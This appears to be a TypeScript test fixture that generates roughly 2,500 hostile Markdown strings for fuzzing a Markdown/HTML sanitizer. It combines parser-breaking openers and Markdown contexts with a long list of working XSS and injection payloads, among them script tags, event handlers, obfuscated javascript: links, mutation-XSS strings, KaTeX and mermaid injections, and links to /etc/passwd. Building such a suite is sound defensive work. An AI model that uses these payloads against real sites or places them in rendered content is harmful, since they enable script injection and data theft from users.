/**
 * Markdown that tries to become more than text. Each text puts a payload that would load, navigate or run something
 * after an opener that starts raw HTML or closes a construct, in one of the places that Markdown has. Every payload
 * meets every place and every opener.
 */

/** Openers: text that may change the state of a Markdown or HTML parser for everything after it. */
const openers: readonly string[] = [
  ...['', 'x <pre> ', '<pre>', '<script>', '<style>', '<textarea>', '<title>', '<xmp>', '<plaintext>', '<kbd><code>'],
  ...['<!--', '<!-->', '<![CDATA[', '<?php ', '<!DOCTYPE x ', '</pre><pre ', '<a href="', "<div x='", '<svg><style>'],
  ...[
    '<math><mtext>',
    '<select><template>',
    '<noscript><p title="',
    '<script></script><pre',
    '`',
    '``` ',
    '$$ ',
    '\\(',
  ],
  ...[
    '[',
    '![',
    '**_',
    '~~',
    '&lt;',
    '&#60;',
    '\\<',
    '\u202e',
    '\0',
    '\ufeff',
    '\ud800',
    '\u2028',
    '<p\n\n',
    '</section>',
  ],
];

/** Places in a document where the text can stand. */
const places: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Words before ${text} and after.`,
  (text) => `- one\n- ${text}\n  - inner ${text}`,
  (text) => `- [x] ${text}\n- [ ] open`,
  (text) => `3. ${text}\n\n4. four`,
  (text) => `> ${text}\n>\n> > ${text}`,
  (text) => `# ${text}\n\n###### ${text}`,
  (text) => `${text}\n===`,
  (text) => `| a | ${cell(text)} |\n|:-:|--:|\n| ${cell(text)} | b |`,
  (text) => `[${text}](https://a.example/)`,
  (text) => `![${text}](https://a.example/p.png)`,
  (text) => `[t](https://a.example/ "${text}")`,
  (text) => `[t](<${text}>) and [u](${text})`,
  (text) => `[ref][r]\n\n[r]: ${text} '${text}'`,
  (text) => `**bold ${text}** *and ${text}* ~~gone ${text}~~`,
  (text) => `\`${text}\` and \`\` ${text} \`\``,
  (text) => `\`\`\`html ${text}\n${text}\n\`\`\``,
  (text) => `~~~${text}\nleft open\n${text}`,
  (text) => `    ${text}\n\n\t${text}`,
  (text) => `$${text}$ and \\(${text}\\) and $\\text{${text}}$`,
  (text) => `$$\n${text}\n$$\n\n\\[ \\color{${text}} \\]`,
  (text) => `<div>\n${text}\n</div>\n\n${text}`,
  (text) => `<!-- ${text} -->\n\n--> ${text}`,
  (text) => `Note[^1].\n\n[^1]: ${text}`,
];

const cell = (text: string) => text.replace(/[|\n]/g, ' ');

/** Payloads that would reach `url`, or set `pwned`. */
const payloads = (url: string): readonly string[] => {
  const run = `globalThis.pwned=1;fetch('${url}')`;
  return [
    `<meta http-equiv="refresh" content="0;url=${url}">`,
    `<meta http-equiv=refresh content=0;url=${url} x`,
    `<meta http-equiv=refresh content=0;url=data:text/html,gone>`,
    `<meta http-equiv="Content-Security-Policy" content="img-src *">`,
    `<script src="${url}"></script>`,
    `<script>${run}</script>`,
    `<script type="speculationrules">{"prefetch":[{"urls":["${url}"]}]}</script>`,
    `<img src="${url}">`,
    `<img src=x onerror="${run}">`,
    `<img src=x onerror=globalThis.pwned=1 `,
    `<image srcset="${url} 1x" />`,
    `<svg onload="${run}"><use href="${url}#a"/><image href="${url}"/></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<svg><foreignObject><iframe src="${url}"></iframe></foreignObject></svg>`,
    `<svg><style>@import '${url}';</style><![CDATA[<img src=${url}>]]></svg>`,
    `<iframe src="${url}"></iframe>`,
    `<iframe srcdoc="<img src='${url}'>"></iframe>`,
    `<object data="${url}"></object><embed src="${url}">`,
    `<link rel="preconnect" href="${url}"><link rel=dns-prefetch href="${url}">`,
    `<link rel=stylesheet href="${url}"><link rel=prefetch href="${url}"><link rel=icon href="${url}">`,
    `<link rel=modulepreload href="${url}"><link rel=manifest href="${url}">`,
    `<base href="${url}/"><a href="x">`,
    `<form action="${url}"><input autofocus onfocus="this.form.submit()"><button>`,
    `<details open ontoggle="${run}"><summary>`,
    `<video poster="${url}" src="${url}" autoplay></video><audio src="${url}" autoplay>`,
    `<style>@import url(${url});*{background:url(${url})}</style>`,
    `<p style="background:url(${url})">`,
    `<table background="${url}"><td background="${url}">`,
    `<body onload="${run}" background="${url}">`,
    `<frameset onload="${run}"><frame src="${url}">`,
    `<marquee onstart="${run}">`,
    `<template shadowrootmode="open"><img src="${url}"></template>`,
    `<noscript><p title="</noscript><img src=${url} onerror=${run}>">`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${url} onerror=${run}&gt;">`,
    `<math><annotation-xml encoding="text/html"><img src=${url} onerror="${run}"></annotation-xml></math>`,
    `<math href="javascript:${run}"><maction actiontype="statusline#${url}">x</maction></math>`,
    `</title><script>${run}</script>`,
    `</style><img src=${url}>`,
    `</textarea></pre></code></p><img src=${url}>`,
    `--><img src=${url}>`,
    `]]><img src=${url}>`,
    `?><img src=${url}>`,
    `"><img src=${url} onerror=${run}>`,
    `' onmouseover=${run} x='`,
    `" autofocus tabindex=0 onfocus="${run}" x="`,
    `<xmp><p title="</xmp><img src=${url}>">`,
    `<a href="javascript:${run}" ping="${url}">here</a>`,
    `[x](javascript:${run})`,
    `[x](JaVaScRiPt:${run}) [y](\tjavascript:${run}) [z](java\nscript:${run})`,
    `[x](&#106;avascript:${run}) [y](java&Tab;script:${run}) [z](javascript&colon;${run})`,
    `[x](<\u0001javascript:${run}>) [y](data:text/html,<script>${run}</script>) [z](vbscript:x)`,
    `<javascript:${run}> <data:text/html,x> <${url}"onmouseover="${run}>`,
    `[x](https://a.example/"onmouseover="${run}) [y](https://user@a.example:pw@b.example/)`,
    `[x](//a.example/x) [y](file:///etc/passwd) [z](blob:https://a.example/x) [w](app://portico/)`,
    `![p](${url}) ![q](${url} "t\\" onerror=\\"${run}") ![" onerror="${run}](${url})`,
    `[![p](${url})](${url}) [![q](javascript:${run})](javascript:${run})`,
    `www.a.example/"onmouseover="${run} mailto:a@a.example?attach=/etc/passwd`,
    `&lt;img src=${url} onerror=${run}&gt; &#60;script&#62;${run}&#60;/script&#62; &lt&#x6d;eta`,
    `$\\href{javascript:${run}}{x}\\url{${url}}\\includegraphics{${url}}$`,
    `$\\htmlClass{x" onclick="${run}}{x}\\htmlId{a}{x}\\htmlStyle{background:url(${url})}{x}\\htmlData{a=b}{x}$`,
    `$\\text{</mtext></math><img src=${url}>}\\color{red;background:url(${url})}{x}\\fcolorbox{red}{#fff}{x}\\pmb{x}$`,
    `$\\def\\a{\\a\\a}\\a$ $\\rule{99999em}{99999em}$ $\\unicode{x}$ </math><img src=${url}>`,
    `\`\`\`mermaid\ngraph TD\nclick A href "javascript:${run}"\nA["<img src=${url} onerror=${run}>"]\n\`\`\``,
    `\`\`\`js"><img src=${url}>\nlet a = '</code></pre><img src=${url}>';\n\`\`\``,
    `\u202egnp.exe\u2066<img src=${url}>\u2069\u200b<\0img src=${url}> <img\0 src=${url}>`,
    `\ud800<img src=${url}>\udfff\ufeff<script>${run}</script>\ufffe`,
  ];
};

/** Returns the texts, about 2,500. A request that one of them causes at `origin` has the text's number in its path. */
export function hostileMarkdown(origin: string): string[] {
  const count = payloads('').length;
  return Array.from({ length: count * openers.length }, (_, index) => {
    const payload = index % count;
    const opener = Math.floor(index / count);
    const text = `${openers[opener]}${payloads(`${origin}/${index}`)[payload]}`;
    // There are more openers than places, so each payload also meets every place.
    return places[(opener + payload) % places.length]?.(text) ?? text;
  });
}

/** The same parts, for generated texts. */
export const hostilePieces = (url: string): string[] => [
  ...openers,
  ...payloads(url),
  ...places.map((place) => place('')),
  ...[
    '\n',
    '\n\n',
    '</pre>',
    '</script>',
    '| a |\n|---|\n| ',
    '```\n',
    '- ',
    '> ',
    '# ',
    '**',
    '`',
    '](',
    '&lt;',
    '-->',
  ],
];
